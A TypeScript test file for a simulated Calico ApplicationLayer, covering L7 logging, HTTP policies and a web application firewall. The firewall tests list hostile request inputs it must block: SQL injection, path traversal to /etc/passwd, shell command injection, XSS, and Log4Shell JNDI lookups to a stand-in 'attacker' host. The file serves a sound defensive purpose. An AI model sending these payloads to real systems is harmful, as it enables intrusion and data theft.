import { beforeEach, describe, expect, test } from 'vitest';
import type { LogDocument } from '../../src/calico/index.ts';
import type { HttpRequest } from '../../src/network/index.ts';
import { type SmallWorld, smallWorld } from './small-world.ts';

let world: SmallWorld;

beforeEach(() => {
  world = smallWorld({ allowed: 1, denied: 1, dns: 1 }, 1);
  const { store } = world.cluster;
  store.create({
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { namespace: 'tigera-operator', name: 'tigera-operator' },
    spec: {
      selector: { matchLabels: { k: 'v' } },
      template: { metadata: { labels: { k: 'v' } }, spec: { containers: [] } },
    },
  });
});

function askFor(spec: object): void {
  world.cluster.store.create({
    apiVersion: 'operator.tigera.io/v1',
    kind: 'ApplicationLayer',
    metadata: { name: 'tigera-secure' },
    spec,
  });
  world.pass(30_000);
}

function annotate(): void {
  world.cluster.store.update('services', 'dev', 'web', (service) => {
    service.metadata.annotations = { 'projectcalico.org/l7-logging': 'true' };
  });
}

function request(path: string, more: Partial<HttpRequest> = {}, ip = '10.0.112.45'): number | undefined {
  const origin = { from: world.network.pod('dev', 'client')!, input: 3 };
  const attempt = world.network.open(origin, { protocol: 'tcp', ip, port: 80 });
  const sent = { method: 'GET', path, host: 'web.dev', headers: {}, body: '', now: world.clock.now(), ...more };
  const response = attempt.server?.http?.(sent);
  attempt.transfer(100, response?.body.length ?? 0);
  attempt.close();
  return response?.status;
}

function logged(dataSet: 'l7' | 'waf'): LogDocument[] {
  world.pass(400_000);
  return world.calico.logs.all(dataSet).map(({ document }) => document);
}

describe('L7 logs', () => {
  test('requests to an annotated service are summed up by method, URL and answer', () => {
    askFor({ logCollection: { collectLogs: 'Enabled' } });
    annotate();
    expect([request('/'), request('/'), request('/nothing')]).toEqual([200, 200, 404]);
    request('/', { method: 'HEAD' });
    const rows = logged('l7');
    const shown = rows.map((row) => [row['method'], row['url'], row['response_code'], row['count']]);
    expect(shown.sort()).toEqual([
      ['GET', 'web.dev/', '200', 2],
      ['GET', 'web.dev/nothing', '404', 1],
      ['HEAD', 'web.dev/', '200', 1],
    ]);
    const home = rows.find((row) => row['count'] === 2)!;
    expect(home).toMatchObject({
      src_name_aggr: 'client',
      src_namespace: 'dev',
      src_type: 'wep',
      dest_name_aggr: 'web-*',
      dest_service_name: 'web',
      dest_service_port_num: 80,
      user_agent: '-',
      duration_mean: 1_000_000,
      duration_max: 1_000_000,
      bytes_in: 0,
      bytes_out: 2 * 615,
    });
  });

  test.each([
    ['the service is not annotated', { logCollection: { collectLogs: 'Enabled' } }, false],
    ['collection is off', { webApplicationFirewall: 'Enabled' }, true],
  ])('there are none when %s', (_, spec, annotated) => {
    askFor(spec);
    if (annotated) annotate();
    request('/');
    expect(logged('l7')).toEqual([]);
  });

  test('a request straight to a pod meets no proxy', () => {
    askFor({ logCollection: { collectLogs: 'Enabled' } });
    annotate();
    request('/', {}, '10.224.1.86');
    expect(logged('l7')).toEqual([]);
  });

  test('Felix’s settings leave out what they say', () => {
    world.cluster.store.update('felixconfigurations.projectcalico.org', undefined, 'default', (felix) => {
      Object.assign(felix['spec'], {
        l7LogsFlushInterval: '10s',
        l7LogsFileAggregationHTTPHeaderInfo: 'IncludeL7HTTPHeaderInfo',
        l7LogsFileAggregationHTTPMethod: 'ExcludeL7HTTPMethod',
        l7LogsFileAggregationTrimURL: 'TrimURLQuery',
      });
    });
    askFor({ logCollection: { collectLogs: 'Enabled' } });
    annotate();
    request('/?a=1', { headers: { 'User-Agent': 'curl/7.88.1' } });
    expect(logged('l7')[0]).toMatchObject({
      method: '-',
      url: 'web.dev/',
      user_agent: 'curl/7.88.1',
      type: 'html/1.1',
    });
  });

  test('what cannot be read is one row a connection: how long, how much, and whether it was encrypted', () => {
    const { store } = world.cluster;
    store.update('felixconfigurations.projectcalico.org', undefined, 'default', (felix) => {
      felix['spec'].l7LogsFileAggregationHTTPHeaderInfo = 'IncludeL7HTTPHeaderInfo';
    });
    store.update('pods', 'prod', 'api', (pod) => {
      pod['spec'].containers[0] = { name: 'main', image: 'thing', ports: [{ containerPort: 7000 }] };
    });
    const ports = [{ port: 7000, protocol: 'TCP' }];
    const annotations = { 'projectcalico.org/l7-logging': 'true' };
    const metadata = { namespace: 'prod', name: 'api', annotations };
    store.create({ apiVersion: 'v1', kind: 'Service', metadata, spec: { clusterIP: '10.0.112.99', ports } });
    store.create({
      apiVersion: 'v1',
      kind: 'Endpoints',
      metadata: { namespace: 'prod', name: 'api' },
      subsets: [{ addresses: [{ ip: '10.224.1.20' }], ports }],
    });
    askFor({ logCollection: { collectLogs: 'Enabled' } });
    const origin = { from: world.network.pod('dev', 'client')!, input: 4 };
    const attempt = world.network.open(origin, { protocol: 'tcp', ip: '10.0.112.99', port: 7000 });
    attempt.transfer(100, 0);
    world.pass(2_000);
    attempt.transfer(0, 50);
    expect(world.calico.logs.collecting('l7', world.clock.now())).toEqual([]);
    attempt.close();
    attempt.close();
    expect(logged('l7')).toEqual([
      expect.objectContaining({
        dest_service_name: 'api',
        dest_port_num: 7000,
        method: '-',
        url: '-',
        response_code: '-',
        user_agent: '-',
        type: 'tcp',
        count: 1,
        bytes_in: 100,
        bytes_out: 50,
        duration_mean: 2_000_000_000,
      }),
    ]);
  });

  test('an encrypted one is told as tls, whatever is asked in it', () => {
    const { store } = world.cluster;
    store.update('felixconfigurations.projectcalico.org', undefined, 'default', (felix) => {
      felix['spec'].l7LogsFileAggregationHTTPHeaderInfo = 'IncludeL7HTTPHeaderInfo';
    });
    const ports = [{ name: 'https', port: 443 }];
    const annotations = { 'projectcalico.org/l7-logging': 'true' };
    const metadata = { namespace: 'dev', name: 'secure', annotations };
    store.create({ apiVersion: 'v1', kind: 'Service', metadata, spec: { clusterIP: '10.0.112.98', ports } });
    const subsets = [{ addresses: [{ ip: '10.224.1.90' }], ports: [{ name: 'https', port: 443 }] }];
    store.create({ apiVersion: 'v1', kind: 'Endpoints', metadata: { namespace: 'dev', name: 'secure' }, subsets });
    store.create({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { namespace: 'dev', name: 'secure' },
      spec: { nodeName: 'node-b', containers: [{ name: 'main', image: 'secure-nginx' }] },
      status: { phase: 'Running', podIP: '10.224.1.90', conditions: [{ type: 'Ready', status: 'True' }] },
    });
    askFor({ logCollection: { collectLogs: 'Enabled' } });
    const origin = { from: world.network.pod('dev', 'client')!, input: 5 };
    const attempt = world.network.open(origin, { protocol: 'tcp', ip: '10.0.112.98', port: 443 });
    expect(attempt.server?.tls).toBe(true);
    const asked = { method: 'GET', path: '/', host: 'secure', headers: {}, body: '', now: world.clock.now() };
    expect(attempt.server!.http!(asked).status).toBe(200);
    attempt.transfer(517, 1200);
    attempt.close();
    expect(logged('l7')).toEqual([
      expect.objectContaining({
        dest_service_name: 'secure',
        dest_service_port_num: 443,
        type: 'tls',
        method: '-',
        url: '-',
        response_code: '-',
        count: 1,
        bytes_in: 517,
        bytes_out: 1200,
      }),
    ]);
  });

  test('the rows name the inputs that asked', () => {
    askFor({ logCollection: { collectLogs: 'Enabled' } });
    annotate();
    request('/');
    logged('l7');
    expect(world.calico.logs.all('l7').map(({ inputs }) => inputs)).toEqual([[3]]);
  });
});

describe('the web application firewall', () => {
  test.each<[string, string, Partial<HttpRequest>]>([
    ['942100', "/?id=1'%20OR%20'1'='1", {}],
    ['942100', '/?q=1+UNION+SELECT+password+FROM+users', {}],
    ['942100', '/login', { method: 'POST', body: 'name=x&password=%27%20or%201%3D1--' }],
    ['930100', '/../../etc/passwd', {}],
    ['930100', '/%2e%2e/%2e%2e/etc', {}],
    ['930100', '/?file=..%252f..%252fsecret', {}],
    ['930120', '/?file=/etc/passwd', {}],
    ['932160', '/?host=example.com;cat%20x', {}],
    ['941100', '/?q=<script>alert(1)</script>', {}],
    ['941100', '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E', {}],
    ['942100', '/cart?artist=0+div+1+union%23foo*%2F*bar%0D%0Aselect%23foo%0D%0A1%2C2%2Ccurrent_user', {}],
    ['942100', '/?id=1/**/union/**/all/**/select/**/2', {}],
    ['913100', '/', { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }],
    ['944150', '/', { headers: { 'X-Api-Version': '${jndi:ldap://attacker:1389/a}' } }],
    ['944150', '/?x=%24%7B%24%7Blower:j%7Dndi:ldap://attacker/a%7D', {}],
  ])('rule %s refuses %s', (rule, path, more) => {
    askFor({ webApplicationFirewall: 'Enabled' });
    annotate();
    expect(request(path, more)).toBe(403);
    const [row, ...others] = logged('waf');
    expect(others).toEqual([]);
    expect(row).toMatchObject({ path, method: more.method ?? 'GET', host: 'web.dev', source: { hostname: 'client' } });
    expect(row!['rules'].map(({ id }: { id: string }) => id)).toContain(rule);
  });

  test.each([
    '/',
    '/?q=select+a+watch',
    '/product/OLJCESPC7Z?currency=EUR&union=no',
    '/?q=rock+and+roll+or+jazz',
    "/?name=O'Brien",
    '/a..b/c',
    '/?email=someone%40example.com&again=50%25',
    '/%zz',
    '/?q=the+union+of+two+sets',
    '/?price=${amount}',
  ])('lets an honest %s pass', (path) => {
    askFor({ webApplicationFirewall: 'Enabled' });
    annotate();
    expect(request(path)).not.toBe(403);
    expect(logged('waf')).toEqual([]);
  });
});

describe('the row of what broke the rules', () => {
  const ATTACK = '/?file=/../../etc/passwd';

  test('names every rule, what they add up to, both ends and the input', () => {
    askFor({ webApplicationFirewall: 'Enabled' });
    annotate();
    request(ATTACK);
    const [row] = logged('waf');
    expect(row).toEqual({
      '@timestamp': expect.any(Number),
      request_id: expect.stringMatching(/^\d+$/),
      source: { ip: '10.224.0.10', port_num: expect.any(Number), hostname: 'client' },
      destination: { ip: expect.any(String), port_num: 80, hostname: expect.stringMatching(/^web-/) },
      level: '',
      method: 'GET',
      path: ATTACK,
      protocol: 'HTTP/1.1',
      host: 'web.dev',
      msg: 'WAF detected 3 violations [deny]',
      rules: [
        rule('930100', 'Path Traversal Attack (/../)', 'REQUEST-930-APPLICATION-ATTACK-LFI.conf'),
        rule('930120', 'OS File Access Attempt', 'REQUEST-930-APPLICATION-ATTACK-LFI.conf'),
        rule('949110', 'Inbound Anomaly Score Exceeded (Total Score: 10)', 'REQUEST-949-BLOCKING-EVALUATION.conf'),
      ],
      rule_info: expect.stringContaining('930100: Path Traversal Attack (/../); 930120:'),
      node: expect.stringMatching(/^node-/),
    });
    expect(world.calico.logs.all('waf')[0]!.inputs).toEqual([3]);
  });

  const rule = (id: string, message: string, file: string) => ({
    id,
    message,
    file,
    severity: 'critical',
    line: '-',
    disruptive: true,
  });

  test.each([
    ['DetectionOnly', 200, '[pass]'],
    ['On', 403, '[deny]'],
    ['"detectiononly"', 200, '[pass]'],
    ['Off', 200, undefined],
  ])('SecRuleEngine %s in the rule set answers %i', (mode, status, ending) => {
    askFor({ webApplicationFirewall: 'Enabled' });
    annotate();
    world.cluster.store.update('configmaps', 'tigera-operator', 'modsecurity-ruleset', (rules) => {
      rules['data'] = { 'modsecdefault.conf': `# SecRuleEngine On\nSecRuleEngine ${mode}\n` };
    });
    expect(request(ATTACK)).toBe(status);
    const [row] = logged('waf');
    expect(row?.['msg']?.endsWith(ending) ?? undefined).toBe(ending && true);
  });

  test('a request that breaks the rules and is let pass may still be refused by policy', () => {
    askFor({ webApplicationFirewall: 'Enabled', applicationLayerPolicy: 'Enabled' });
    annotate();
    world.cluster.store.update('configmaps', 'tigera-operator', 'modsecurity-ruleset', (rules) => {
      rules['data'] = { 'modsecdefault.conf': 'SecRuleEngine DetectionOnly' };
    });
    world.cluster.store.create({
      apiVersion: 'projectcalico.org/v3',
      kind: 'NetworkPolicy',
      metadata: { namespace: 'dev', name: 'default.web' },
      spec: {
        selector: "app == 'web'",
        types: ['Ingress'],
        ingress: [{ action: 'Allow', http: { methods: ['PUT'] } }],
      },
    });
    expect(request(ATTACK)).toBe(403);
    expect(logged('waf')[0]).toMatchObject({ msg: 'WAF detected 3 violations [pass]' });
  });
});

test('flow rows of the destination count the requests that passed and those refused', () => {
  askFor({ webApplicationFirewall: 'Enabled' });
  annotate();
  for (const path of ['/', '/', '/../../etc/passwd']) request(path);
  world.pass(60_000);
  const sums: Record<string, [number, number]> = { src: [0, 0], dst: [0, 0] };
  for (const { document } of world.calico.logs.all('flows')) {
    const sum = sums[document['reporter']]!;
    sum[0] += document['http_requests_allowed_in'];
    sum[1] += document['http_requests_denied_in'];
  }
  expect(sums).toEqual({ src: [0, 0], dst: [2, 1] });
});

describe('policies on requests', () => {
  const policy = (http: object) =>
    world.cluster.store.create({
      apiVersion: 'projectcalico.org/v3',
      kind: 'NetworkPolicy',
      metadata: { namespace: 'dev', name: 'default.web' },
      spec: { selector: "app == 'web'", types: ['Ingress'], ingress: [{ action: 'Allow', http }] },
    });

  test.each([
    [{ methods: ['GET'] }, 'GET', '/', 200],
    [{ methods: ['GET'] }, 'HEAD', '/', 403],
    [{ methods: ['*'] }, 'HEAD', '/', 200],
    [{ paths: [{ exact: '/' }] }, 'GET', '/?a=b', 200],
    [{ paths: [{ exact: '/' }] }, 'GET', '/other', 403],
    [{ paths: [{ prefix: '/pub' }, { exact: '/' }] }, 'GET', '/public/x', 404],
    [{ methods: ['GET'], paths: [{ prefix: '/' }] }, 'POST', '/', 403],
  ])('%j makes a %s of %s end with %i', (http, method, path, status) => {
    askFor({ applicationLayerPolicy: 'Enabled' });
    annotate();
    policy(http);
    expect(request(path, { method })).toBe(status);
  });

  test('without the proxies packets pass by the rest of the rule', () => {
    policy({ methods: ['PUT'] });
    expect(request('/')).toBe(200);
  });
});

test('the operator runs the proxies on every node, and takes them away again', () => {
  const { store } = world.cluster;
  store.create({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'calico-system' } });
  const containers = () =>
    store
      .get('daemonsets.apps', 'calico-system', 'l7-log-collector')
      ?.['spec'].template.spec.containers.map(({ name }: { name: string }) => name);
  askFor({ logCollection: { collectLogs: 'Enabled' } });
  annotate();
  expect(containers()).toEqual(['envoy-proxy', 'l7-collector']);
  expect(store.get('configmaps', 'tigera-operator', 'modsecurity-ruleset')).toBeUndefined();
  store.update('applicationlayers.operator.tigera.io', undefined, 'tigera-secure', (layer) => {
    layer['spec'].webApplicationFirewall = 'Enabled';
  });
  expect(containers()).toEqual(['envoy-proxy', 'l7-collector', 'dikastes']);
  expect(request('/../etc/passwd')).toBe(403);
  store.delete('applicationlayers.operator.tigera.io', undefined, 'tigera-secure');
  expect(containers()).toBeUndefined();
  expect(request('/../etc/passwd')).toBe(404);
});

test('the proxy speaks for the server: names in lower case, itself as the server, the time that took', () => {
  askFor({ logCollection: { collectLogs: 'Enabled' } });
  annotate();
  const origin = { from: world.network.pod('dev', 'client')! };
  const { server } = world.network.open(origin, { protocol: 'tcp', ip: '10.0.112.45', port: 80 });
  const sent = { method: 'GET', path: '/', host: 'web', headers: {}, body: '', now: world.clock.now() };
  const headers = Object.fromEntries(server!.http!(sent).headers);
  expect(headers).toMatchObject({ server: 'envoy', 'x-envoy-upstream-service-time': '1', 'content-length': '615' });
  expect(Object.keys(headers).every((name) => name === name.toLowerCase())).toBe(true);
});

test('tigerastatus follows the ApplicationLayer', () => {
  const status = () => world.cluster.store.get('tigerastatuses.operator.tigera.io', undefined, 'applicationlayer');
  expect(status()).toBeUndefined();
  askFor({ logCollection: { collectLogs: 'Enabled' } });
  expect(status()!['status'].conditions[0]).toMatchObject({ type: 'Available', status: 'True' });
  world.cluster.store.delete('applicationlayers.operator.tigera.io', undefined, 'tigera-secure');
  expect(status()).toBeUndefined();
});
